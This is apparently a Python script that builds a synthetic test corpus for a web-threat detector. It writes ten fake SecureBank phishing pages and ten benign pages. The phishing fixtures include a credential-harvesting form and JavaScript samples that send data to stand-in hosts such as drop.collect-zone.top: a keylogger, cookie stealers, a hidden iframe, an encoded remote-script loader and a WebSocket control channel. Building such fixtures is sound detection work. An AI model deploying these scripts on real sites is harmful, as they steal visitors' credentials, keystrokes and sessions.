#!/usr/bin/env python3
"""Regenerate the 20-page synthetic evaluation corpus.

Ten pages plant malicious evidence (credential forms on a mismatched
brand, exfiltration scripts, hidden iframes, keyloggers); ten are mundane
benign pages. Output is committed under tests/fixtures/corpus20 so the
evaluation tests are hermetic and reproducible.

Usage: python3 tools/make_corpus20.py [dest-dir]
"""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

FETCHED_AT = "2025-01-01T00:00:00Z"

PHISH_HEAD = (
    '<meta property="og:site_name" content="SecureBank">'
    '<meta property="og:title" content="SecureBank - Verify your account">'
)

PHISH_FORM = (
    '<h1>Account Verification</h1>'
    '<p>Please confirm your SecureBank credentials to avoid suspension.</p>'
    '<form id="login" action="/harvest" autocomplete="off">'
    '<input type="text" name="user" placeholder="Customer ID">'
    '<input type="password" name="password" placeholder="Password">'
    '<button id="go" type="submit">Verify now</button>'
    "</form>"
)


def page(title: str, head: str, body: str) -> str:
    return (
        f"<html><head><title>{title}</title>{head}</head>"
        f"<body>{body}</body></html>"
    )


MALICIOUS = {
    "m01-fake-login-exfil": {
        "url": "http://securebank-login-alert.xyz/verify/account",
        "html": page("SecureBank - Verify", PHISH_HEAD, PHISH_FORM),
        "scripts": {
            "collect.js": "fetch('http://drop.collect-zone.top/gate.php', "
            "{method: 'POST', body: 'beacon'});"
        },
    },
    "m02-hidden-iframe": {
        "url": "http://account-verify-secure.icu/session",
        "html": page("SecureBank Session Check", PHISH_HEAD, PHISH_FORM),
        "scripts": {
            "frame.js": "(function(){var f=document.createElement('iframe');"
            "f.setAttribute('style','width:0;height:0');"
            "f.src='http://inner.account-verify-secure.icu/drop';"
            "document.body.appendChild(f);"
            "fetch('http://drop.collect-zone.top/gate.php',{method:'POST'});})();"
        },
    },
    "m03-keylogger": {
        "url": "http://secure-login-check.club/portal",
        "html": page("SecureBank Portal", PHISH_HEAD, PHISH_FORM),
        "scripts": {
            "keys.js": "(function(){var buf=[];"
            "document.addEventListener('keydown',function(e){buf.push(e.key);});"
            "setTimeout(function(){fetch('http://drop.collect-zone.top/k',"
            "{method:'POST',body:buf.join('')});},1200);})();"
        },
    },
    "m04-atob-injector": {
        "url": "http://bank-update-alerts.pw/confirm",
        "html": page("SecureBank Update", PHISH_HEAD, PHISH_FORM),
        "scripts": {
            "loader.js": "var _0xd4 = 'aHR0cDovL2Nkbi5jb2xsZWN0LXpvbmUudG9wL3BheWxvYWQuanM=';\n"
            "var s = document.createElement('script');\n"
            "s.src = decodeURIComponent(atob(_0xd4));\n"
            "document.body.appendChild(s);\n"
            "fetch('http://drop.collect-zone.top/ping', {method: 'POST'});"
        },
    },
    "m05-delayed-payload": {
        "url": "http://signin-verification.ga/check",
        "html": page("SecureBank Signin", PHISH_HEAD, PHISH_FORM),
        "scripts": {
            "late.js": "setTimeout(\"fetch('http://drop.collect-zone.top/late',"
            "{method:'POST'})\", 2500);"
        },
    },
    "m06-session-grabber": {
        "url": "http://secure-account-alerts.tk/unlock",
        "html": page("SecureBank Unlock", PHISH_HEAD, PHISH_FORM),
        "scripts": {
            "grab.js": "window.sessionGrabber = function(){return document.cookie;};"
            "document.cookie = 'mark=1';"
            "fetch('http://drop.collect-zone.top/c', {method: 'POST',"
            " body: window.sessionGrabber()});"
        },
    },
    "m07-obfuscated": {
        "url": "http://login-confirm-center.ml/auth",
        "html": page("SecureBank Auth", PHISH_HEAD, PHISH_FORM),
        "scripts": {
            "ob.js": "var a=1,b=2,c=3,d=4,e=5,f=6,g=7,h=8,i=9,j=10;"
            "function q(w,r,t,y,u,p){return w+r+t+y+u+p}"
            "var s1=\"Kj9#mQ2$xZ7!pL4@vN8%wB3^cD6&fG1*hR5~tY0+aE9-sU2_iO7=kP4\";"
            "var s2=\"zX8!qW3@eR7#tY2$uI6%oP1^aS5&dF9*gH4(jK0)lZ8-xC3_vB7+nM2\";"
            "eval('q(a,b,c,d,e,f)');"
            "fetch('http://drop.collect-zone.top/o', {method: 'POST'});"
        },
    },
    "m08-cookie-stealer": {
        "url": "http://verify-account-portal.xyz/login",
        "html": page("SecureBank Login", PHISH_HEAD, PHISH_FORM),
        "scripts": {
            "steal.js": "document.cookie = 'sid=planted';"
            "var jar = document.cookie;"
            "fetch('http://drop.collect-zone.top/jar', {method: 'POST', body: jar});"
        },
    },
    "m09-geolocate": {
        "url": "http://account-check-secure.top/geo",
        "html": page("SecureBank Region Check", PHISH_HEAD, PHISH_FORM),
        "scripts": {
            "geo.js": "navigator.geolocation.getCurrentPosition(function(p){},"
            "function(e){});"
            "fetch('http://drop.collect-zone.top/g', {method: 'POST'});"
        },
    },
    "m10-websocket-c2": {
        "url": "http://update-billing-secure.club/pay",
        "html": page("SecureBank Billing", PHISH_HEAD, PHISH_FORM),
        "scripts": {
            "ws.js": "new WebSocket('ws://c2.collect-zone.top/sock');"
            "fetch('http://drop.collect-zone.top/w', {method: 'POST'});"
        },
    },
}

BENIGN = {
    "b01-docs": {
        "url": "https://docs.greenfield-press.org/manual",
        "html": page(
            "Greenfield Press Manual",
            '<meta property="og:site_name" content="Greenfield Press">',
            "<h1>User manual</h1><p>Welcome to the documentation portal.</p>"
            "<div id='toc'></div>",
        ),
        "scripts": {
            "toc.js": "fetch('/api/toc').then(function(r){return r.text();})"
            ".then(function(t){document.getElementById('toc').textContent = 'sections';});"
        },
    },
    "b02-blog": {
        "url": "https://journal.mapleandmoss.net/2025/01/hello",
        "html": page(
            "Maple & Moss Journal",
            "",
            "<article><h1>Winter notes</h1><p>The garden sleeps under snow.</p></article>",
        ),
        "scripts": {},
    },
    "b03-shop": {
        "url": "https://shop.copperkettle.coffee/beans",
        "html": page(
            "Copper Kettle Beans",
            '<meta property="og:site_name" content="Copper Kettle">',
            "<h1>Fresh beans</h1>"
            '<form action="/cart" autocomplete="on"><input type="text" name="qty">'
            '<button id="add">Add to cart</button></form>',
        ),
        "scripts": {
            "cart.js": "document.getElementById('add').addEventListener('click',"
            "function(){document.title = 'Copper Kettle (1)';});"
        },
    },
    "b04-news": {
        "url": "https://daily.harborlight.news/",
        "html": page(
            "Harborlight Daily",
            "",
            "<h1>Headlines</h1><ul><li>Tide tables updated</li><li>Ferry schedule</li></ul>",
        ),
        "scripts": {
            "ticker.js": "var n=0; setInterval(function(){n+=1;}, 1000);"
            "document.addEventListener('scroll', function(){});"
        },
    },
    "b05-own-brand-login": {
        "url": "https://login.evergreen-credit.example/signin",
        "html": page(
            "Evergreen Credit Union",
            '<meta property="og:site_name" content="Evergreen Credit Union">',
            '<h1>Member sign in</h1><form id="login" action="/session" autocomplete="on">'
            '<input type="text" name="member-id">'
            '<input type="password" name="password">'
            "<button type='submit'>Sign in</button></form>",
        ),
        "scripts": {
            "validate.js": "document.getElementById('login').addEventListener("
            "'submit', function(e){ if (!e.target) { e.preventDefault(); } });"
        },
    },
    "b06-portfolio": {
        "url": "https://ateliernova.example/work",
        "html": page(
            "Atelier Nova",
            "",
            "<h1>Selected work</h1><div class='grid'><span>alpha</span><span>beta</span></div>",
        ),
        "scripts": {
            "fade.js": "setTimeout(function(){document.title='Atelier Nova — work';}, 400);"
        },
    },
    "b07-wiki": {
        "url": "https://wiki.tidepool.example/Main_Page",
        "html": page(
            "Tidepool Wiki",
            "",
            "<h1>Main page</h1><p>A community encyclopedia of coastal life.</p>",
        ),
        "scripts": {
            "prefs.js": "localStorage.setItem('theme', 'tide');"
            "var theme = localStorage.getItem('theme');"
        },
    },
    "b08-dashboard": {
        "url": "https://ops.quietriver.example/status",
        "html": page(
            "Quiet River Ops",
            "",
            "<h1>Service status</h1><table><tr><td>api</td><td id='api'>?</td></tr></table>",
        ),
        "scripts": {
            "poll.js": "fetch('/health').then(function(r){"
            "document.getElementById('api').textContent = r.status;});"
        },
    },
    "b09-newsletter": {
        "url": "https://letters.fernworks.example/",
        "html": page(
            "Fernworks Letters",
            "",
            '<h1>Subscribe</h1><form action="/subscribe" autocomplete="on">'
            '<input type="email" name="email"><button>Join</button></form>',
        ),
        "scripts": {},
    },
    "b10-status": {
        "url": "https://status.larkspur.example/",
        "html": page(
            "Larkspur Status",
            "",
            "<h1>All systems nominal</h1><p>Last checked a moment ago.</p>",
        ),
        "scripts": {
            "clock.js": "setTimeout(function(){document.title = 'Larkspur Status · live';}, 250);"
        },
    },
}


def write_snapshot(root: Path, name: str, spec: dict, label: str) -> dict:
    directory = root / "pages" / name
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "page.html").write_text(spec["html"], encoding="utf-8")
    manifest = {
        "format": "threatscope-snapshot/1",
        "url": spec["url"],
        "fetched_at": FETCHED_AT,
        "tls": spec["url"].startswith("https"),
        "scripts": [{"url": fname, "file": fname} for fname in sorted(spec["scripts"])],
    }
    for fname, source in spec["scripts"].items():
        (directory / fname).write_text(source, encoding="utf-8")
    (directory / "manifest.json").write_text(
        json.dumps(manifest, indent=2) + "\n", encoding="utf-8"
    )
    return {"snapshot_dir": f"pages/{name}", "label": label, "threat_type": None}


def main() -> None:
    dest = Path(sys.argv[1]) if len(sys.argv) > 1 else (
        Path(__file__).resolve().parent.parent / "tests" / "fixtures" / "corpus20"
    )
    if dest.exists():
        shutil.rmtree(dest)
    entries = []
    for name, spec in sorted(MALICIOUS.items()):
        entries.append(write_snapshot(dest, name, spec, "malicious"))
    for name, spec in sorted(BENIGN.items()):
        entries.append(write_snapshot(dest, name, spec, "benign"))
    (dest / "corpus.json").write_text(
        json.dumps({"format": "threatscope-corpus/1", "entries": entries}, indent=2)
        + "\n",
        encoding="utf-8",
    )
    print(f"wrote {len(entries)} snapshots under {dest}")


if __name__ == "__main__":
    main()
